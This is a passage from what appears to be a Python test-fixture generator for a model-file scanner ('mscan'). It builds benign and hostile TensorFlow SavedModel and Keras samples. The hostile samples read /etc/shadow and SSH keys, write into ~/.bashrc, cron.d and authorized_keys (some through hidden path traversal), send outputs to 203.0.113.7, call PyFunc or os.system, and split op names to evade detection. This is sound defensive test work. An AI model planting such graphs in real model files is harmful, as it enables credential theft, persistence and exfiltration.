      name: "save/StringJoin"
      op: "StringJoin"
      input: "save/Const"
      input: "save/StringJoin/inputs_1"
      attr { key: "N" value { i: 2 } }
      attr { key: "separator" value { s: "" } }
    }
    node { name: "save/num_shards" op: "Const" }
    node { name: "save/ShardedFilename/shard" op: "Const" }
    node {
      name: "save/ShardedFilename"
      op: "ShardedFilename"
      input: "save/StringJoin"
      input: "save/ShardedFilename/shard"
      input: "save/num_shards"
    }
    node {
      name: "save/SaveV2"
      op: "SaveV2"
      input: "save/ShardedFilename"
      input: "save/SaveV2/tensor_names"
      input: "save/SaveV2/shape_and_slices"
      input: "w"
      attr { key: "dtypes" value { list { type: DT_FLOAT type: DT_FLOAT } } }
    }
    node {
      name: "save/control_dependency"
      op: "Identity"
      input: "save/ShardedFilename"
      input: "^save/SaveV2"
    }
    node {
      name: "save/MergeV2Checkpoints/checkpoint_prefixes"
      op: "Pack"
      input: "save/ShardedFilename"
      input: "^save/control_dependency"
    }
    node {
      name: "save/MergeV2Checkpoints"
      op: "MergeV2Checkpoints"
      input: "save/MergeV2Checkpoints/checkpoint_prefixes"
      input: "save/Const"
    }
    node {
      name: "save/Identity"
      op: "Identity"
      input: "save/Const"
      input: "^save/MergeV2Checkpoints"
      input: "^save/control_dependency"
    }
    node {
      name: "save/RestoreV2"
      op: "RestoreV2"
      input: "save/Const"
      input: "save/RestoreV2/tensor_names"
      input: "save/RestoreV2/shape_and_slices"
    }
    node {
      name: "save/Assign"
      op: "Assign"
      input: "w"
      input: "save/RestoreV2"
    }
    node {
      name: "save/restore_shard"
      op: "NoOp"
      input: "^save/Assign"
    }
    node {
      name: "save/restore_all"
      op: "NoOp"
      input: "^save/restore_shard"
    }
    versions { producer: 134 }
  }
  saver_def {
    filename_tensor_name: "save/Const:0"
    save_tensor_name: "save/Identity:0"
    restore_op_name: "save/restore_all"
    max_to_keep: 5
    sharded: true
    keep_checkpoint_every_n_hours: 10000.0
    version: V2
  }
}
'''

# The same text saver with an extra Save of a constant file made a control dependency of
# save/restore_all.
PBTXT_EXTRA_SAVE = PBTXT_BENIGN.replace('''      input: "^save/restore_shard"
    }''', '''      input: "^save/restore_shard"
      input: "^save/Save"
    }
    node {
      name: "save/cron_path"
      op: "Const"
      attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/cron.d/x" } } }
    }
    node {
      name: "save/Save"
      op: "Save"
      input: "save/cron_path"
      input: "save/SaveV2/tensor_names"
      input: "w"
    }''')
assert PBTXT_EXTRA_SAVE != PBTXT_BENIGN

# The text saver whose StringJoin suffix climbs out of the model's directory after 250
# harmless characters (past what mscan keeps of a string: such a suffix is not trusted).
PBTXT_LONG_SUFFIX = PBTXT_BENIGN.replace(
    'string_val: "_temp_6a0b/part"',
    'string_val: "_temp' + "x" * 250 + '/../../../../etc/cron.d/mscan-sample"')
assert PBTXT_LONG_SUFFIX != PBTXT_BENIGN


def split_op_strings(text: str) -> bytes:
    """Every `op: "Name"` as `op: "Na" # comment\n "me"`: adjacent literals, joined by the
    text format's parser."""
    out = []
    for line in text.splitlines(keepends=True):
        stripped = line.strip()
        if stripped.startswith('op: "') and stripped.endswith('"') and len(stripped) > 8:
            name = stripped[5:-1]
            half = len(name) // 2
            indent = line[:len(line) - len(line.lstrip())]
            line = f'{indent}op: "{name[:half]}" # joined\n{indent}  \'{name[half:]}\'\n'
        out.append(line)
    return "".join(out).encode()


PBTXT_READFILE = '''\
# written by hand: a SavedModel in text format whose graph reads a file
saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" }
  graph_def {
    node {
      name: "secret_path"
      op: "Const"
      attr { key: "dtype" value { type: DT_STRING } }
      attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "/etc/shadow" } } }
    }
    node {
      name: "ReadFile"
      op: "ReadFile"
      input: "secret_path"
    }
    library {
      function {
        signature { name: "__inference_leak_7" output_arg { name: "out" type: DT_STRING } }
        node_def {
          name: "PyFunc"
          op: "PyFunc"
          attr { key: "token" value { s: "pyfunc_1" } }
        }
        ret { key: "out" value: "PyFunc:output:0" }
      }
    }
  }
}
'''


# --- the sample table ------------------------------------------------------------------------------

def sm(path):
    return path + "/saved_model.pb"


SAMPLES = [
    (sm("benign/tf2_dense"), "benign",
     "TF2 SavedModel of a Dense layer: MatMul/BiasAdd/Relu, StatefulPartitionedCall, and the "
     "saver functions __inference__traced_save/_restore with SaveV2, MergeV2Checkpoints, "
     "RestoreV2 named by the SaverDef", [], [MEDIUM_PLUS], tf2_model),
    (sm("benign/tf1_saver"), "benign",
     "TF1 SavedModelBuilder graph with its sharded Saver under save/ (SaveV2, MergeV2Checkpoints, "
     "RestoreV2) and a SaverDef naming it", [], [MEDIUM_PLUS], tf1_model),
    ("benign/keras_dense/keras_metadata.pb", "benign",
     "keras_metadata.pb of a Sequential model with one Dense layer", [], [MEDIUM_PLUS],
     benign_keras_metadata),
    ("benign/tf1_text/saved_model.pbtxt", "benign",
     "TF1 SavedModel in text format with its save/ scope and SaverDef", [], [MEDIUM_PLUS],
     lambda: PBTXT_BENIGN.encode()),
    (sm("hostile/readfile"), "hostile", "TF1 graph with ReadFile('/etc/passwd')",
     ["tf-file-access"], ["savedmodel-malformed"], readfile_model),
    (sm("hostile/writefile_in_function"), "hostile",
     "TF2 model whose forward function writes ~/.bashrc with WriteFile (only in the library)",
     ["tf-file-access"], ["savedmodel-malformed"], writefile_in_function),
    (sm("hostile/pyfunc"), "hostile", "TF1 graph with a PyFunc node (token pyfunc_0)",
     ["tf-python-call"], [], pyfunc_model),
    (sm("hostile/pyfunc_reordered"), "hostile",
     "the PyFunc graph with unknown fields first and the schema version last (any field order "
     "is valid protobuf; TensorFlow opens saved_model.pb by name)", ["tf-python-call"], [],
     pyfunc_reordered),
    ("hostile/keras_lambda_fifth/keras_metadata.pb", "hostile",
     "keras_metadata.pb whose Lambda model comes after four nodes without a tf.keras "
     "identifier", ["keras-lambda-layer", "process-execution"], [], lambda_fifth_keras_metadata),
    (sm("hostile/eager_pyfunc_in_function"), "hostile",
     "TF2 model whose forward function calls EagerPyFunc", ["tf-python-call"], [],
     eager_pyfunc_in_function),
    (sm("hostile/savev2_outside_saver"), "hostile",
     "TF1 graph that also saves its variables to /tmp with a SaveV2 outside the save/ scope",
     ["tf-file-access"], [], savev2_outside_saver),
    (sm("hostile/fake_traced_save"), "hostile",
     "TF2 model calling a function named __inference__traced_save_999 that the SaverDef does "
     "not use, whose SaveV2 writes to ~/.config/autostart", ["tf-file-access"], [],
     fake_traced_save),
    (sm("hostile/saver_extra_save"), "hostile",
     "TF1 graph with an extra Save of the constant file /etc/cron.d/mscan-sample made a control "
     "dependency of the SaverDef's save/restore_all (reachable, but its file is not the "
     "loader's)", ["tf-file-access"], [], saver_extra_save),
    (sm("hostile/saver_suffix_traversal"), "hostile",
     "TF1 graph with a SaveV2 in save/restore_all whose prefix is save/Const joined with "
     "/../../../../etc/cron.d/mscan-sample", ["tf-file-access"], [], saver_suffix_traversal),
    (sm("hostile/saver_hostile_default"), "hostile",
     "TF1 graph whose save/Const defaults to ~/.config/autostart/... and whose Save of it also "
     "runs with the serving output (which does not feed save/Const)", ["tf-file-access"], [],
     saver_hostile_default),
    (sm("hostile/traced_save_called_elsewhere"), "hostile",
     "TF2 model whose forward function calls the saver's own __inference__traced_save_200 with "
     "the constant prefix ~/.ssh/authorized_keys", ["tf-file-access"], [],
     traced_save_called_elsewhere),
    ("hostile/pbtxt_saver_extra_save/saved_model.pbtxt", "hostile",
     "the TF1 text SavedModel with an extra Save of /etc/cron.d/x in save/restore_all",
     ["tf-file-access"], [], lambda: PBTXT_EXTRA_SAVE.encode()),
    ("hostile/pbtxt_saver_long_suffix/saved_model.pbtxt", "hostile",
     "the TF1 text saver whose save/StringJoin suffix hides /../../../../etc/cron.d after 250 "
     "characters", ["tf-file-access"], [], lambda: PBTXT_LONG_SUFFIX.encode()),
    (sm("hostile/try_rpc"), "hostile",
     "TF1 graph sending its output to 203.0.113.7:50051 with TryRpc", ["tf-network"], [],
     rpc_model),
    (sm("hostile/cache_dataset_file"), "hostile",
     "TF2 function whose CacheDatasetV2 writes its cache to ~/.bashrc", ["tf-file-access"], [],
     cache_dataset_model),
    (sm("hostile/matching_files"), "hostile", "TF1 graph listing ~/.ssh keys with MatchingFiles",
     ["tf-file-access"], [], matching_files_model),
    (sm("hostile/print_to_file"), "hostile",
     "TF2 model printing its inputs with PrintV2 to a file:// stream", ["tf-print"], [],
     print_model),
    (sm("hostile/debug_grpc"), "hostile",
     "TF1 graph streaming its output to grpc://203.0.113.7 with DebugIdentityV2",
     ["tf-network"], [], debug_grpc_model),
    (sm("hostile/init_table_from_file"), "hostile",
     "TF1 graph whose lookup table is initialised from ~/.ssh/id_rsa with "
     "InitializeTableFromTextFileV2", ["tf-file-access"], [], init_table_from_file),
    (sm("hostile/debug_v3_grpc"), "hostile",
     "TF1 graph streaming its output to grpc://203.0.113.7 with DebugIdentityV3",
     ["tf-network"], [], debug_v3_model),
    (sm("hostile/decode_proto_descriptor_file"), "hostile",
     "TF1 graph whose DecodeProtoV2 reads its descriptors from /tmp/evil.desc",
     ["tf-file-access"], [], lambda: decode_proto("/tmp/evil.desc")),
    (sm("benign/decode_proto_local"), "benign",
     "TF1 graph with DecodeProtoV2 over the binary's own descriptors (local://)", [],
     [MEDIUM_PLUS], lambda: decode_proto("local://")),
    ("hostile/keras_lambda/keras_metadata.pb", "hostile",
     "keras_metadata.pb whose Sequential model has a Lambda layer with marshaled code calling "
     "os.system", ["keras-lambda-layer", "process-execution"], [], lambda_keras_metadata),
    ("hostile/pbtxt_readfile/saved_model.pbtxt", "hostile",
     "SavedModel in text format with ReadFile('/etc/shadow') and a PyFunc in a function",
     ["tf-file-access", "tf-python-call"], [], lambda: PBTXT_READFILE.encode()),
    ("hostile/pbtxt_split_strings/saved_model.pbtxt", "hostile",
     "the same text SavedModel with every op name written as adjacent string literals "
     "(op: \"Read\" \"File\"), which the text format joins into one",
     ["tf-file-access", "tf-python-call"], [], lambda: split_op_strings(PBTXT_READFILE)),
    (sm("hostile/readfile_then_truncated"), "hostile",
     "TF1 graph with ReadFile, cut short right after it", ["tf-file-access",
                                                            "savedmodel-malformed"], [],
     readfile_then_truncated),
    (sm("anomaly/truncated"), "anomaly", "TF2 SavedModel cut at two thirds",
     ["savedmodel-malformed"], [], truncated_model),
    (sm("anomaly/bad_wire_type"), "anomaly",
     "GraphDef.node written as a varint between two nodes (protobuf refuses it)",
     ["savedmodel-malformed", "tf-file-access"], [], bad_wire_type_model),
]


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    entries = []
    for name, kind, description, expect, forbid, make in SAMPLES:
        data = bytes(make())
        path = OUT / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"{kind:7} {name:52} {len(data):6} B")
        entries.append({"path": path.relative_to(ROOT).as_posix(), "kind": kind,
                        "group": "savedmodel", "description": description,
                        "expect": sorted(expect), "forbid": sorted(forbid)})
    # A variables/ directory next to the TF2 model, as TensorFlow writes it: data only, never
    # read by the SavedModel parser (and not a manifest sample).
    variables = OUT / "benign/tf2_dense/variables"
    variables.mkdir(parents=True, exist_ok=True)
    (variables / "variables.data-00000-of-00001").write_bytes(
        struct.pack("<16f", *[0.125 * i for i in range(16)]))
    update_manifest(entries, ["samples/savedmodel/"])
    print(f"wrote {len(entries)} SavedModel samples")


if __name__ == "__main__":
    main()
